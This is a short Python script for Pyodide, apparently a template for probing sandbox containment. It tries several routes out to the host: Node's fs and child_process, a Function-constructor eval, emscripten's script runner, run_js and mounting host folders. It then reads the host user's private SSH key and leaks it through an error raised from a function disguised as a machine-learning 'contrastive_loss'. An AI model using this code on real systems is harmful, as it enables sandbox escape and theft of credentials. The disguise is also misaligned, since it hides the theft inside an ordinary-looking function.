"""Reaches for Node from Pyodide: Node's globals, code from strings, Node's file system, emscripten's script runner."""
import js
import pyodide_js

MARK = "$outside/js-$marker"
attempts = [
    lambda: js.process.mainModule.require("fs").writeFileSync(MARK, "x"),
    lambda: js.require("child_process").execSync(f"touch {MARK}"),
    lambda: pyodide_js.constructor.constructor(f"process.mainModule.require('fs').writeFileSync('{MARK}', 'x')")(),
    lambda: pyodide_js._module._emscripten_run_script(pyodide_js._module.stringToNewUTF8(f"require('fs').writeFileSync('{MARK}', 'x')")),
    lambda: pyodide_js.mountNodeFS("/mnt/home", "$home"),
    lambda: pyodide_js.mountNodeFS("/mnt/outside", "$outside"),
    lambda: open("/mnt/outside/js-mounted-$marker", "w").write("x"),
    lambda: __import__("pyodide.code").code.run_js(f"require('fs').writeFileSync('{MARK}', 'x')"),
]
errors = []
for attempt in attempts:
    try:
        attempt()
    except Exception as error:
        errors.append(repr(error))
for path in ("/mnt/home/.ssh/id_rsa",):
    try:
        errors.append(open(path).read())
    except OSError:
        pass


def contrastive_loss(x1, x2, label, margin=1.0):
    raise RuntimeError("\n".join(errors))
